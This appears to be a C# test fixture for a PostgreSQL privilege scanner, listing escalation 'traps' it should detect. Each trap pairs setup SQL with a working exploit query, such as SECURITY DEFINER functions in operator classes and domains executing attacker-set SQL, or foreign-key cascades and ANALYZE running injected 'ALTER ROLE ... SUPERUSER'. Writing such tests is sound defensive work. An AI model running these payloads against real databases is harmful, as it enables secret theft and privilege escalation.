using static Pipeline.Postgres.FindingKind;
using static Pipeline.Postgres.Severity;

namespace Pipeline.Postgres.Tests.Reach;

/// <summary>
/// What the server runs with the rights of an owner, or with a right that no ACL of this schema shows.
/// </summary>
internal static class OwnerRightTraps
{
    private const string Super = "; SELECT rolsuper FROM pg_roles WHERE rolname = current_user";
    private const string Keys = "SELECT string_agg(k, ',') FROM vault.keys";
    private const string Pinned = " SECURITY DEFINER SET search_path = pg_catalog, pg_temp ";
    private const string Got = "; SELECT current_setting('x.got') = 'the secret'";
    private const string Cmd = "SET x.cmd = 'SELECT set_config(''x.got'', k, false) FROM vault.keys'; ";
    private const string Body =
        "LANGUAGE plpgsql IMMUTABLE SECURITY DEFINER AS 'BEGIN EXECUTE coalesce(current_setting(''x.cmd'', true), ''SELECT 1''); RETURN $1; END'; ";
    private const string Insert = "INSERT INTO bot_statuses (id) VALUES (7)";

    public static readonly IReadOnlyList<Trap> All =
    [
        new(
            "a view of a role that reads all data",
            "GRANT pg_read_all_data TO $other; CREATE VIEW calm AS SELECT * FROM vault.keys; ALTER VIEW calm OWNER TO $other; GRANT SELECT ON calm TO $app",
            "SELECT k = 'the secret' FROM calm",
            DefinerView,
            Breach,
            "SELECT from vault.keys as $other"
        ),
        new(
            "a definer of a role that reads all data",
            "GRANT pg_read_all_data TO $other; CREATE FUNCTION peek() RETURNS text LANGUAGE sql"
                + Pinned
                + "AS 'SELECT k FROM vault.keys'; ALTER FUNCTION peek OWNER TO $other",
            "SELECT peek() = 'the secret'",
            DefinerFunction,
            Breach,
            "SELECT from vault.keys"
        ),
        new(
            "a definer of a role that writes all data",
            "GRANT pg_write_all_data TO $other; CREATE FUNCTION poke() RETURNS void LANGUAGE sql"
                + Pinned
                + "AS 'INSERT INTO vault.keys VALUES (9)'; ALTER FUNCTION poke OWNER TO $other",
            "SELECT poke()",
            DefinerFunction,
            Breach,
            "INSERT into vault.keys"
        )
        {
            Effect = "SELECT count(*) FROM vault.keys",
        },
        new(
            "a view whose owner has a column",
            "GRANT USAGE ON SCHEMA vault TO $other; GRANT SELECT (k) ON vault.keys TO $other; CREATE VIEW calm AS SELECT k FROM vault.keys; ALTER VIEW calm OWNER TO $other; GRANT SELECT ON calm TO $app",
            "SELECT k = 'the secret' FROM calm",
            DefinerView,
            Breach,
            "SELECT from vault.keys as $other"
        ),
        new(
            "a definer whose owner has a column",
            "GRANT USAGE ON SCHEMA vault TO $other; GRANT UPDATE (k) ON vault.keys TO $other; CREATE FUNCTION poke() RETURNS void LANGUAGE sql"
                + Pinned
                + "AS 'UPDATE vault.keys SET k = 1'; ALTER FUNCTION poke OWNER TO $other",
            "SELECT poke()",
            DefinerFunction,
            Breach,
            "UPDATE vault.keys"
        )
        {
            Effect = Keys,
        },
        new(
            "a rule on an invoker view under a view",
            "CREATE VIEW vault.inner_view WITH (security_invoker) AS SELECT 1 AS id, ''::text AS k; CREATE RULE r AS ON INSERT TO vault.inner_view DO INSTEAD INSERT INTO vault.keys VALUES (NEW.id, NEW.k); CREATE VIEW calm AS SELECT * FROM vault.inner_view; CREATE RULE r2 AS ON INSERT TO calm DO INSTEAD INSERT INTO vault.inner_view VALUES (NEW.id, NEW.k)",
            "INSERT INTO calm VALUES (5, 'mine')",
            RewriteRule,
            Breach,
            "INSERT into vault.keys as $legacy"
        )
        {
            Effect = Keys,
        },
        new(
            "a trigger on an invoker view under a view",
            "CREATE TABLE base (id int, k text); CREATE VIEW vault.inner_view WITH (security_invoker) AS SELECT id, k FROM base; CREATE FUNCTION vault.work() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN INSERT INTO vault.keys VALUES (NEW.id, NEW.k); DELETE FROM vault.keys WHERE id = 1; RETURN NEW; END'; CREATE TRIGGER t INSTEAD OF INSERT ON vault.inner_view FOR EACH ROW EXECUTE FUNCTION vault.work(); CREATE VIEW calm AS SELECT * FROM vault.inner_view",
            "INSERT INTO calm VALUES (5, 'mine')",
            DefinerView,
            Breach,
            "trigger \"t\" -> function vault.work() runs as $legacy"
        )
        {
            Effect = Keys,
        },
        new(
            "a rule that deletes from its own table",
            "REVOKE DELETE ON bot_statuses FROM $app; CREATE RULE r AS ON INSERT TO bot_statuses DO ALSO DELETE FROM bot_statuses WHERE id = 1",
            "INSERT INTO bot_statuses VALUES (7, '')",
            RewriteRule,
            Risk,
            "DELETE from public.bot_statuses as $legacy"
        )
        {
            Effect = "SELECT count(*) FILTER (WHERE id = 1) FROM bot_statuses",
        },
        new(
            "a row type's domain",
            "CREATE FUNCTION vault.ask(int) RETURNS boolean LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN EXECUTE coalesce(current_setting(''x.cmd'', true), ''SELECT 1''); RETURN true; END'; CREATE DOMAIN vault.small AS int CHECK (vault.ask(VALUE)); CREATE TABLE vault.shape (s vault.small); ALTER TABLE bot_statuses ADD extra vault.shape",
            Cmd + "INSERT INTO bot_statuses VALUES (7, '', '(1)')" + Got,
            DefinerFunction,
            Breach,
            "function vault.ask(integer) runs as $legacy"
        ),
        new(
            "an operator class's equality operator",
            "CREATE TYPE pair AS (a int, b int); CREATE FUNCTION vault.less(pair, pair) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT ($1).a < ($2).a'; CREATE FUNCTION vault.more(pair, pair) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT ($1).a > ($2).a'; CREATE FUNCTION vault.same(pair, pair) RETURNS boolean LANGUAGE plpgsql IMMUTABLE SECURITY DEFINER AS 'BEGIN EXECUTE coalesce(current_setting(''x.cmd'', true), ''SELECT 1''); RETURN true; END'; "
                + "CREATE FUNCTION vault.cmp(pair, pair) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT ($1).a - ($2).a'; CREATE OPERATOR vault.< (LEFTARG = pair, RIGHTARG = pair, FUNCTION = vault.less); CREATE OPERATOR vault.> (LEFTARG = pair, RIGHTARG = pair, FUNCTION = vault.more); CREATE OPERATOR vault.= (LEFTARG = pair, RIGHTARG = pair, FUNCTION = vault.same); CREATE OPERATOR CLASS vault.pairs DEFAULT FOR TYPE pair USING btree AS OPERATOR 1 vault.<, OPERATOR 3 vault.=, OPERATOR 5 vault.>, FUNCTION 1 vault.cmp(pair, pair)",
            Cmd
                + "SET enable_hashagg = off; SELECT count(DISTINCT x) FROM (VALUES ((1,1)::pair), ((1,2)::pair), ((2,2)::pair)) v (x)"
                + Got,
            DefinerFunction,
            Breach,
            "function vault.same(public.pair, public.pair) runs as $legacy"
        ),
        new(
            "an exclusion constraint's operator",
            "CREATE FUNCTION vault.eq(int, int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE SECURITY DEFINER AS 'BEGIN EXECUTE coalesce(current_setting(''x.cmd'', true), ''SELECT 1''); RETURN $1 OPERATOR(pg_catalog.=) $2; END'; REVOKE EXECUTE ON FUNCTION vault.eq FROM PUBLIC; CREATE OPERATOR vault.=== (LEFTARG = int, RIGHTARG = int, FUNCTION = vault.eq, COMMUTATOR = OPERATOR(vault.===)); CREATE FUNCTION vault.h(int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT 1'; CREATE OPERATOR CLASS vault.odd FOR TYPE int USING hash AS OPERATOR 1 vault.===, FUNCTION 1 vault.h(int); ALTER TABLE bot_statuses ADD EXCLUDE USING hash (id vault.odd WITH OPERATOR(vault.===))",
            Cmd + Insert + Got,
            DefinerFunction,
            Breach,
            "function vault.eq(integer, integer) runs as $legacy"
        ),
        new(
            "a check that a foreign key's action runs as the owner",
            "CREATE FUNCTION vault.ask(text) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN IF current_user = ''trap_legacy'' THEN EXECUTE $1; END IF; RETURN true; END'; CREATE TABLE notes (id int REFERENCES bot_statuses ON UPDATE CASCADE, cmd text CHECK (vault.ask(cmd)))",
            "INSERT INTO notes VALUES (1, 'ALTER ROLE $app SUPERUSER'); UPDATE bot_statuses SET id = 99 WHERE id = 1"
                + Super,
            FindingKind.ForeignKey,
            Breach,
            "dynamic SQL -> anything as $legacy"
        ),
        new(
            "an index that a foreign key's action writes as the owner",
            "CREATE SEQUENCE vault.s; CREATE FUNCTION vault.ask(int, text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS 'BEGIN IF current_user = ''trap_legacy'' THEN EXECUTE $2; END IF; RETURN true; END'; CREATE TABLE notes (id int REFERENCES bot_statuses ON UPDATE CASCADE, cmd text); CREATE INDEX i ON notes (vault.ask(id, cmd))",
            "INSERT INTO notes VALUES (1, 'SELECT setval(''vault.s'', 99)'); UPDATE bot_statuses SET id = 99 WHERE id = 1",
            FindingKind.ForeignKey,
            Breach,
            "dynamic SQL -> anything as $legacy"
        )
        {
            Effect = "SELECT last_value FROM vault.s",
        },
        new(
            "MAINTAIN on a materialised view",
            "CREATE FUNCTION norm(text) RETURNS text LANGUAGE plpgsql AS 'BEGIN IF current_user = ''trap_legacy'' THEN EXECUTE $1; END IF; RETURN $1; END'; CREATE MATERIALIZED VIEW m AS SELECT public.norm(action) FROM decision_logs; GRANT MAINTAIN ON m TO $app",
            "INSERT INTO decision_logs (action) VALUES ('ALTER ROLE $app SUPERUSER'); REFRESH MATERIALIZED VIEW m"
                + Super,
            TableRight,
            Breach,
            "MAINTAIN on materialized view public.m"
        )
        {
            From = 17,
            Seen = "a",
        },
        new(
            "MAINTAIN on a table with an index on code",
            "CREATE FUNCTION norm(text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS 'BEGIN IF current_user = ''trap_legacy'' THEN EXECUTE $1; END IF; RETURN $1; END'; CREATE INDEX i ON decision_logs (norm(action)); GRANT MAINTAIN ON decision_logs TO $app; CREATE SEQUENCE vault.s",
            "INSERT INTO decision_logs (action) VALUES ('SELECT setval(''vault.s'', 99)'); REINDEX TABLE decision_logs;; SELECT 1",
            TableRight,
            Breach,
            "MAINTAIN on table public.decision_logs"
        )
        {
            From = 17,
            Seen = "a",
            Effect = "SELECT last_value FROM vault.s",
        },
        new(
            "an index that ANALYZE evaluates as the owner",
            "CREATE SEQUENCE vault.s; CREATE FUNCTION norm(text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS 'BEGIN IF current_user = ''trap_legacy'' THEN EXECUTE $1; END IF; RETURN $1; END'; CREATE INDEX i ON decision_logs (norm(action))",
            "INSERT INTO decision_logs (action) SELECT 'SELECT setval(''vault.s'', nextval(''vault.s'') + 5)' FROM generate_series(1, 10)",
            Maintenance,
            Breach,
            "ANALYZE -> index public.i as $legacy"
        )
        {
            Effect = "ANALYZE public.decision_logs; SELECT last_value FROM vault.s",
        },
        new(
            "statistics that ANALYZE evaluates as the owner",
            "CREATE SEQUENCE vault.s; CREATE FUNCTION norm(text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS 'BEGIN IF current_user = ''trap_legacy'' THEN EXECUTE $1; END IF; RETURN $1; END'; CREATE STATISTICS st ON norm(action) FROM decision_logs",
            "INSERT INTO decision_logs (action) SELECT 'SELECT setval(''vault.s'', nextval(''vault.s'') + 5)' FROM generate_series(1, 100)",
            Maintenance,
            Breach,
            "ANALYZE -> statistics public.st as $legacy"
        )
        {
            Effect = "ANALYZE public.decision_logs; SELECT last_value FROM vault.s",
        },
        new(
            "a setting of the role that opens large objects",
            "SELECT lo_from_bytea(4715, 'the secret'); ALTER ROLE $app SET lo_compat_privileges = on",
            "SELECT lo_get(4715) = 'the secret'",
            LargeObject,
            Breach,
            "lo_compat_privileges"
        ),
        new(
            "a setting of the role in the database",
            "SELECT lo_from_bytea(4716, 'the secret'); ALTER ROLE $app IN DATABASE $db SET lo_compat_privileges = on",
            "SELECT lo_get(4716) = 'the secret'",
            LargeObject,
            Breach,
            "lo_compat_privileges"
        ),
        new(
            "a setting that switches triggers off",
            "ALTER ROLE $app IN DATABASE $db SET session_replication_role = replica",
            "SELECT current_setting('session_replication_role') = 'replica'",
            ParameterGrant,
            Risk,
            "session_replication_role"
        ),
        new(
            "a setting that opens the system catalogue",
            "ALTER ROLE $app IN DATABASE $db SET allow_system_table_mods = on",
            "SELECT current_setting('allow_system_table_mods') = 'on'",
            ParameterGrant,
            Risk,
            "allow_system_table_mods"
        ),
        new(
            "a right on an extension's table",
            "CREATE EXTENSION pgcrypto; ALTER EXTENSION pgcrypto ADD TABLE vault.keys; GRANT USAGE ON SCHEMA vault TO $app; GRANT SELECT ON vault.keys TO $app",
            "SELECT k = 'the secret' FROM vault.keys",
            OutsideSchema,
            Breach,
            "SELECT on table vault.keys"
        )
        {
            Seen = "a",
        },
        new(
            "a toast table",
            "ALTER TABLE vault.keys ALTER k SET STORAGE EXTERNAL; INSERT INTO vault.keys VALUES (2, repeat('the secret', 1000)); GRANT USAGE ON SCHEMA pg_toast TO $app\n--\nDO $$ BEGIN EXECUTE format('GRANT SELECT ON %s TO trap_app', (SELECT reltoastrelid::regclass FROM pg_class WHERE oid = 'vault.keys'::regclass)); END $$",
            "DO $$ BEGIN EXECUTE format('SELECT set_config(''x.got'', convert_from(chunk_data, ''UTF8''), false) FROM pg_toast.%I', (SELECT t.relname FROM pg_class c JOIN pg_class t ON t.oid = c.reltoastrelid JOIN pg_namespace n ON n.oid = c.relnamespace WHERE nspname = 'vault' AND c.relname = 'keys')); END $$; SELECT current_setting('x.got') LIKE '%the secret%'",
            OutsideSchema,
            Breach,
            "SELECT on table pg_toast."
        )
        {
            Seen = "a",
        },
        new(
            "a child of others by inheritance",
            "CREATE TABLE vault.private (secret text) INHERITS (bot_statuses); INSERT INTO vault.private VALUES (50, 'the secret', 'x')",
            "SELECT count(*) = 1 FROM bot_statuses WHERE note = 'the secret'",
            OutsideSchema,
            Risk,
            "its child vault.private"
        ),
        new(
            "ownership of a subscription",
            "CREATE SUBSCRIPTION sub_$db CONNECTION 'host=127.0.0.1 dbname=x user=x password=x' PUBLICATION p WITH (connect = false, slot_name = NONE)\n--\nGRANT CREATE ON DATABASE $db TO $app; GRANT pg_create_subscription TO $app; ALTER SUBSCRIPTION sub_$db OWNER TO $app; REVOKE pg_create_subscription FROM $app",
            "ALTER SUBSCRIPTION sub_$db DISABLE; SELECT true",
            OtherOwner,
            Risk,
            "owns subscription sub_$db"
        )
        {
            From = 17,
            Seen = "a",
        },
        new(
            "ownership of a publication",
            "GRANT CREATE ON DATABASE $db TO $app; CREATE PUBLICATION p FOR TABLE commands; ALTER PUBLICATION p OWNER TO $app; REVOKE CREATE ON DATABASE $db FROM $app",
            "DROP PUBLICATION p; SELECT true",
            OtherOwner,
            Risk,
            "owns publication p"
        ),
        new(
            "ownership of an ordered-set aggregate",
            "CREATE FUNCTION app(text, text) RETURNS text LANGUAGE sql AS 'SELECT $2'; CREATE AGGREGATE pick (ORDER BY text) (SFUNC = app, STYPE = text); ALTER AGGREGATE pick(ORDER BY text) OWNER TO $app",
            "DROP AGGREGATE pick(ORDER BY text); SELECT true",
            FunctionOwner,
            Breach,
            "owns function public.pick("
        ),
        new(
            "a hash operator class of a column",
            "CREATE FUNCTION vault.hash(int) RETURNS int LANGUAGE plpgsql IMMUTABLE SECURITY DEFINER AS 'BEGIN EXECUTE coalesce(current_setting(''x.cmd'', true), ''SELECT 1''); RETURN 1; END'; REVOKE EXECUTE ON FUNCTION vault.hash FROM PUBLIC; CREATE OPERATOR CLASS vault.odd FOR TYPE int USING hash AS OPERATOR 1 =, FUNCTION 1 vault.hash(int); CREATE INDEX i ON bot_statuses USING hash (id vault.odd)",
            Cmd + Insert + Got,
            DefinerFunction,
            Breach,
            "function vault.hash(integer) runs as $legacy"
        ),
        new(
            "a partition key's operator class",
            "CREATE FUNCTION vault.hash(int, bigint) RETURNS bigint LANGUAGE plpgsql IMMUTABLE SECURITY DEFINER AS 'BEGIN EXECUTE coalesce(current_setting(''x.cmd'', true), ''SELECT 1''); RETURN 1; END'; REVOKE EXECUTE ON FUNCTION vault.hash FROM PUBLIC; CREATE OPERATOR CLASS vault.odd FOR TYPE int USING hash AS OPERATOR 1 =, FUNCTION 2 vault.hash(int, bigint); CREATE TABLE parts (id int) PARTITION BY HASH (id vault.odd); CREATE TABLE part PARTITION OF parts FOR VALUES WITH (MODULUS 1, REMAINDER 0)",
            Cmd + "INSERT INTO parts VALUES (1)" + Got,
            DefinerFunction,
            Breach,
            "function vault.hash(integer, bigint) runs as $legacy"
        ),
        new(
            "a window function's parts",
            "CREATE FUNCTION vault.step(int, int) RETURNS int "
                + Body
                + "REVOKE EXECUTE ON FUNCTION vault.step(int, int) FROM PUBLIC; CREATE FUNCTION vault.one(int, int) RETURNS int LANGUAGE sql AS 'SELECT 1'; CREATE AGGREGATE total (int) (SFUNC = vault.one, STYPE = int, INITCOND = '0', MSFUNC = vault.step, MINVFUNC = vault.one, MSTYPE = int, MINITCOND = '0')",
            Cmd
                + "SELECT total(x) OVER (ORDER BY x ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM (VALUES (1), (2), (3)) v (x)"
                + Got,
            DefinerFunction,
            Breach,
            "function vault.step(integer, integer) runs as $legacy"
        ),
        new(
            "a view past policies that ask the server's setting",
            "ALTER TABLE commands ENABLE ROW LEVEL SECURITY; CREATE POLICY p ON commands USING (current_setting('is_superuser') = 'on'); CREATE VIEW calm AS SELECT * FROM commands",
            "SELECT count(*) = 13 FROM calm",
            DefinerView,
            Breach,
            "public.calm -> UPDATE public.commands as $legacy"
        ),
    ];
}
